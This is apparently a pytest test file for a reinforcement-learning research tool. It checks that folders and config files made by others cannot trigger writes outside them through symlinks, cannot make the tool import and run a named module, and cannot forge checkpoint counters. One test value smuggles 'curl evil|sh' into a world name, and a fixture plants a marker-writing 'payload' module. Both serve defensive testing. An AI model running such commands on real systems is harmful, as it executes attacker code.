"""Folders that somebody else made: nothing outside is written or deleted, and no code is named."""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pytest
from support.runs import ALGO, copied, forged, interrupted, tiny

from myopia.agents.policies.agent import Agent
from myopia.agents.population.population import PopulationConfig, train_population
from myopia.agents.runs.run import RunConfig
from myopia.agents.training.parallel import train_many
from myopia.agents.training.train import train
from myopia.analysis.evaluation.evaluate_run import evaluate_run
from myopia.analysis.report.results import collect
from myopia.analysis.studies.execution.run import run_study
from myopia.analysis.studies.study import Study, load_study
from myopia.cli.main import main
from myopia.common.files import read_json

RUN = (
    *(
        "config.json",
        "run.json",
        "checkpoint",
        "checkpoint/weights",
        "checkpoint/state.safetensors",
    ),
    *("checkpoint/weights/000000000000.safetensors", "weights.safetensors", "model.zip"),
    *("episodes.parquet", "evaluation.json", "cadence.json", "tensorboard", "tensorboard/train_1"),
    *("representations", "representations/layers.png", "representations/dictionaries"),
    *("index.html", "anything", "wandb"),
)
STUDY = ("study.json", "recipe", "recipe/seed-0", "recipe/seed-0/tensorboard", "index.html")
POPULATION = (
    *("population.json", "selection.json", "checkpoint", "checkpoint/000000000064"),
    *("checkpoint/state.json", "member-00", "member-01/checkpoint", "member-01/model.zip"),
)


def a_file(outside: Path) -> Path:
    return outside / "file"


def a_folder(outside: Path) -> Path:
    return outside / "folder"


def nothing(outside: Path) -> Path:
    return outside / "missing"


def itself(outside: Path) -> Path:
    return Path("loop")


KINDS = (a_file, a_folder, nothing, itself)


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """What must stay as it is."""
    folder = tmp_path / "outside"
    (folder / "folder").mkdir(parents=True)
    for name in ("file", "folder/precious"):
        (folder / name).write_text("precious")
    return folder


@pytest.fixture(scope="module")
def done(tmp_path_factory) -> Path:
    return train(tiny(), tmp_path_factory.mktemp("done") / "run")


def plant(folder: Path, place: str, kind: Callable[[Path], Path], outside: Path) -> None:
    path = folder / place
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    target = kind(outside)
    path.symlink_to(path if target == Path("loop") else target)


def contents(folder: Path) -> dict[str, bytes | None]:
    return {
        str(path.relative_to(folder)): path.read_bytes() if path.is_file() else None
        for path in folder.rglob("*")
    }


def refused(act: Callable[[], object], outside: Path) -> None:
    """`act` raises one sentence about the link, and nothing outside has changed."""
    before = contents(outside)
    with pytest.raises(ValueError, match=r"is a link (out of|that leads nowhere)") as caught:
        act()
    assert "\n" not in str(caught.value)
    assert contents(outside) == before


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("place", RUN)
def test_links_in_a_run_are_refused(place: str, kind, done: Path, outside: Path, tmp_path) -> None:
    fresh = tmp_path / "fresh"
    plant(fresh, place, kind, outside)
    refused(lambda: train(tiny(), fresh), outside)
    judged = copied(done, tmp_path / "judged")
    plant(judged, place, kind, outside)
    refused(lambda: train(tiny(), judged), outside)
    refused(lambda: evaluate_run(judged), outside)
    before = contents(outside)
    for command in (["evaluate"], ["represent", "--directions", "3"]):
        assert main([command[0], str(judged), *command[1:]]) == 2
    main(["report", str(judged)])
    assert contents(outside) == before


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("place", STUDY)
def test_links_in_a_study_are_refused(place: str, kind, outside: Path, tmp_path: Path) -> None:
    base = {"world": "Work", "algo": ALGO, "total_timesteps": 300}
    study = Study("tiny", base, {"recipe": {}}, (0,))
    plant(tmp_path / "study", place, kind, outside)
    refused(lambda: list(run_study(study, tmp_path / "study")), outside)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("place", POPULATION)
def test_links_in_a_population_are_refused(place, kind, outside: Path, tmp_path: Path) -> None:
    plant(tmp_path / "many", place, kind, outside)
    asked = PopulationConfig(tiny(), members=2, rank="epoch", interval=64)
    refused(lambda: train_population(asked, tmp_path / "many"), outside)


def test_a_whole_run_folder_may_be_a_link(tmp_path: Path) -> None:
    (tmp_path / "disk").mkdir()
    (tmp_path / "run").symlink_to(tmp_path / "disk")
    train(tiny(), tmp_path / "run")
    evaluate_run(tmp_path / "run")
    assert (tmp_path / "disk" / "evaluation.json").exists()


def test_links_that_stay_inside_are_left(done: Path, tmp_path: Path) -> None:
    folder = copied(done, tmp_path / "run")
    (folder / "latest").symlink_to("tensorboard")
    evaluate_run(folder)
    assert (folder / "latest").is_symlink()


def test_a_population_deletes_what_it_wrote_and_nothing_else(tmp_path: Path) -> None:
    folder, precious = (
        tmp_path / "many",
        ["notes/a.txt", "000000000001x/a", "000000000064/mine.txt"],
    )
    for name in precious:
        path = folder / "checkpoint" / name
        path.parent.mkdir(parents=True)
        path.write_text("precious")
    asked = PopulationConfig(tiny(), members=2, rank="epoch", interval=64)
    train_population(asked, folder, checkpoint_seconds=0)
    left = {str(p.relative_to(folder / "checkpoint")) for p in (folder / "checkpoint").rglob("*")}
    assert {name for name in left if not (folder / "checkpoint" / name).is_dir()} == set(precious)
    train_population(asked, folder)  # done already
    assert (folder / "checkpoint" / "notes" / "a.txt").read_text() == "precious"


@pytest.mark.parametrize(
    "counters",
    [
        {"tensorboard_log": "elsewhere"},
        {"num_timesteps": "12"},
        {"num_timesteps": True},
        {"num_timesteps": None},
        {"policy": 1},
        {"__class__": 1},
    ],
)
def test_a_checkpoint_sets_counters_only(counters: dict, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    state = interrupted(tmp_path / "run") / "checkpoint" / "state.safetensors"
    forged(state, lambda facts, _: facts["counters"].update(counters))
    with pytest.raises(ValueError, match=r"is damaged \(counter"):
        train(tiny(), tmp_path / "run")
    assert not (tmp_path / "elsewhere").exists()


MODULE = "open({mark!r}, 'w').close()\n"
OWN = """
from dataclasses import dataclass
from myopia.envs import register
from myopia.envs.worlds.work import Work

@register
@dataclass(frozen=True)
class Factory(Work):
    pass
"""


@pytest.fixture
def stolen(done: Path, tmp_path: Path, monkeypatch) -> Path:
    """A folder with files that all name a module beside them, which leaves a mark if it is run."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "st2").mkdir()
    (tmp_path / "st2" / "payload.py").write_text(MODULE.format(mark=str(tmp_path / "mark")) + OWN)
    world = "st2.payload:Factory"
    run = copied(done, tmp_path / "run")
    (run / "config.json").write_text(json.dumps({**read_json(run / "config.json"), "world": world}))
    (tmp_path / "study.toml").write_text(
        f'title="t"\nseeds=[0]\n[base]\nworld="{world}"\n[conditions.recipe]\n'
    )
    study = tmp_path / "study"
    base = {"world": world}
    study.mkdir()
    (study / "study.json").write_text(
        json.dumps(
            {"title": "t", "base": base, "conditions": {"r": {}}, "seeds": [0], "probes": []}
        )
    )
    return tmp_path


def test_no_file_names_what_is_run(stolen: Path) -> None:
    run = stolen / "run"
    config = RunConfig.read(run)
    for act in (
        config.make_world,
        lambda: Agent.load(run),
        lambda: evaluate_run(run),
        lambda: train(config, run),
        lambda: train(config, stolen / "new"),
        lambda: load_study("study.toml"),
    ):
        with pytest.raises(ValueError, match=r"--world-module st2\.payload"):
            act()
    with pytest.raises(ValueError, match="no evaluated run"):
        collect(stolen / "study")
    assert not (stolen / "new").exists()
    for command in (
        ["evaluate", "run"],
        ["represent", "run"],
        ["study", "study.toml"],
        ["train", "Work", "--cadence", "--baseline", "run", "--out", "new"],
    ):
        assert main(command) == 2, command
    assert not (stolen / "mark").exists()
    assert "st2.payload" not in sys.modules


def command(folder: Path, *arguments: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-P", "-c", "import sys; from myopia.cli.main import main; "
         "sys.exit(main(sys.argv[1:]))", *arguments],
        cwd=folder, capture_output=True, text=True, check=False,
    )  # fmt: skip


def test_worlds_of_ones_own_by_ones_own_word(tmp_path: Path) -> None:
    """Trained, evaluated and reported from their folder and from elsewhere."""
    (tmp_path / "factory.py").write_text("import helper\n" + OWN)
    (tmp_path / "helper.py").write_text("")
    short = ("--algo", ALGO, "--total-timesteps", "300")
    out = command(tmp_path, "train", "factory:Factory", *short, "--out", "a run")
    assert out.returncode == 0, out.stderr
    assert "myopia evaluate 'a run' --world-module factory" in out.stdout
    refused = command(tmp_path, "evaluate", "a run")
    assert refused.returncode == 2
    assert "expected --world-module factory" in refused.stderr
    assert len(refused.stderr.splitlines()) == 1
    for module in ("factory", "factory.py", "../" + tmp_path.name + "/factory.py"):
        told = command(tmp_path, "evaluate", "a run", "--world-module", module, "--json")
        assert told.returncode == 0, told.stderr
        assert json.loads(told.stdout)["world"] == "Factory"
    (tmp_path / "study.toml").write_text(
        f'title="t"\nseeds=[0]\n[base]\nworld="factory:Factory"\nalgo="{ALGO}"\n'
        "total_timesteps=300\n[conditions.recipe]\n"
    )
    studied = command(
        tmp_path, "study", "study.toml", "--out", "s", "--world-module", "factory", "--workers", "1"
    )
    assert studied.returncode == 0, studied.stderr
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    reported = command(elsewhere, "report", "../s")
    assert reported.returncode == 0, reported.stderr
    page = (tmp_path / "s" / "index.html").read_text()
    assert "expected --world-module factory" in page
    reported = command(tmp_path, "report", "s", "--world-module", "factory")
    assert "expected --world-module factory" not in (tmp_path / "s" / "index.html").read_text()


@pytest.mark.parametrize("where", [".", "sub"])
def test_a_study_in_python_with_neighbours(where: str, tmp_path: Path) -> None:
    """It imports what lies beside it, and may define the world itself."""
    folder = tmp_path / where
    folder.mkdir(exist_ok=True)
    (folder / "beside.py").write_text("SEEDS = (0,)\n")
    (folder / "mine.py").write_text(
        "import beside\nfrom myopia.analysis.studies.study import Study\n" + OWN + "\n"
        f"BASE = {{'world': 'mine:Factory', 'algo': {ALGO!r}, 'total_timesteps': 300}}\n"
        "STUDY = Study('t', BASE, {'recipe': {}}, beside.SEEDS)\n"
    )
    told = command(tmp_path, "study", f"{where}/mine.py", "--out", "s", "--workers", "1")
    assert told.returncode == 0, told.stderr
    assert "1 now, 0 failed" in told.stdout


def test_a_script_with_a_world_of_its_own_runs_studies(tmp_path: Path) -> None:
    """In Python, the class is registered by import; workers find it, and its neighbours, too."""
    (tmp_path / "beside.py").write_text("WAGE = 1\n")
    (tmp_path / "factory.py").write_text("import beside\n" + OWN)
    (tmp_path / "script.py").write_text(
        "from pathlib import Path\nimport factory\n"
        "from myopia.analysis.studies.execution.run import run_study\n"
        "from myopia.analysis.studies.study import Study\n"
        "if __name__ == '__main__':\n"
        f"    base = {{'world': 'factory:Factory', 'algo': {ALGO!r}, 'total_timesteps': 300}}\n"
        "    study = Study('t', base, {'recipe': {}}, (0, 1))\n"
        "    last = list(run_study(study, Path('out'), workers=2))[-1]\n"
        "    assert last.done == 2, last.errors\n"
    )
    environment = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
    ran = subprocess.run(
        [sys.executable, "script.py"],
        cwd=tmp_path, capture_output=True, text=True, check=False, env=environment,
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr[-2000:]


def test_what_wandb_links_to_is_its_own(done: Path, outside: Path, tmp_path: Path) -> None:
    """In a tracked run; a condition of a study that is called so is checked as all others are."""
    tracked = copied(done, tmp_path / "run")
    plant(tracked, "wandb/run-1/logs/debug-core.log", a_file, outside)
    evaluate_run(tracked)
    assert main(["train", "Work", *SHORT, "--out", str(tracked)]) == 0
    study = Study("t", {"world": "Work", "algo": ALGO}, {"wandb": {}}, (0,))
    plant(tmp_path / "study", "wandb/seed-0", a_folder, outside)
    refused(lambda: list(run_study(study, tmp_path / "study")), outside)
    plant(tmp_path / "elsewhere", "wandb", a_folder, outside)
    refused(lambda: train(tiny(), tmp_path / "elsewhere"), outside)


@pytest.mark.parametrize("place", ["wandb/settings", ".wandb/settings"])
def test_settings_of_the_folder_get_no_key(place: str, tmp_path: Path, monkeypatch, capsys) -> None:
    begun = []
    fake = SimpleNamespace(init=lambda **settings: begun.append(settings))
    monkeypatch.setitem(sys.modules, "wandb", fake)
    monkeypatch.chdir(tmp_path)
    (tmp_path / place).parent.mkdir()
    (tmp_path / place).write_text("[default]\nbase_url = http://127.0.0.1:9\n")
    assert main(["train", "Work", *SHORT, "--track", "--out", "run"]) == 2
    assert place in capsys.readouterr().err
    assert not begun
    assert not (tmp_path / "run").exists()


SHORT = ("--algo", ALGO, "--total-timesteps", "2400")


def test_folders_that_nobody_named_are_no_links(outside: Path, tmp_path: Path, monkeypatch) -> None:
    """Those of seeds, and the default ones, whose names are known beforehand."""
    monkeypatch.chdir(tmp_path)
    before = contents(outside)
    plant(tmp_path, "many/seed-1", a_folder, outside)
    assert main(["train", "Work", *SHORT, "--seeds", "0:2", "--out", "many"]) == 2
    asked = tiny()
    plant(tmp_path, f"runs/{asked.id}", a_folder, outside)
    for act in (lambda: train(asked), lambda: train_many([asked])):
        refused(act, outside)
    many = PopulationConfig(asked, members=2)
    plant(tmp_path, f"runs/{many.id}", a_folder, outside)
    refused(lambda: train_population(many), outside)
    for place, command in (
        ("runs/toy-pentagon", ["toy", "pentagon", "--steps", "3"]),
        ("runs/s-curves", ["s-curves"]),
        ("runs/capability", ["capability"]),
        ("runs/quickstart", ["demo"]),
        ("runs/quickstart", ["study", "quickstart"]),
    ):
        plant(tmp_path, place, a_folder, outside)
        assert main(command) == 2, command
    assert contents(outside) == before


@pytest.mark.parametrize(
    ("world", "sentence"),
    [
        ("x; curl evil|sh\n\x1b[31m:W", "is no world, expected a name, or module:Class"),
        (5, "its world or dials are no name and no object"),
        (None, "its world or dials are no name and no object"),
        (["a:B"], "its world or dials are no name and no object"),
    ],
)
def test_what_a_file_says_is_one_line(world, sentence: str, done: Path, tmp_path, capsys) -> None:
    folder = copied(done, tmp_path / "run")
    asked = {**read_json(folder / "config.json"), "world": world}
    (folder / "config.json").write_text(json.dumps(asked))
    assert main(["evaluate", str(folder)]) == 2
    told = capsys.readouterr().err
    assert sentence in told
    assert len(told.splitlines()) == 1
    assert "\x1b" not in told


@pytest.mark.parametrize(
    "body", ["raise RuntimeError('x\\ny')", "import sys; sys.exit('bye')", "def"]
)
def test_a_module_that_fails_is_one_sentence(body: str, tmp_path, monkeypatch, capsys) -> None:
    (tmp_path / "failing.py").write_text(body)
    monkeypatch.chdir(tmp_path)
    for command in (
        ["evaluate", "failing:f", "Work"],
        ["train", "failing:World"],
        ["evaluate", "run", "--world-module", "failing.py"],
    ):
        assert main(command) == 2
        told = capsys.readouterr().err
        assert len(told.splitlines()) == 1
        assert "failing" in told


@pytest.mark.parametrize("condition", ["study.json", "index.html", "x" * 300])
def test_conditions_that_name_no_folder(condition: str, tmp_path: Path) -> None:
    study = Study("t", {"world": "Work", "algo": ALGO}, {condition: {}}, (0,))
    with pytest.raises(ValueError, match="expected another name"):
        list(run_study(study, tmp_path / "out"))
    assert not (tmp_path / "out").exists()


def test_a_folder_of_runs_and_other_things_is_reported(done: Path, tmp_path: Path) -> None:
    evaluate_run(copied(done, tmp_path / "run"))
    (tmp_path / ".venv").mkdir()
    (tmp_path / ".venv" / "python").symlink_to(sys.executable)
    assert main(["report", str(tmp_path)]) == 0
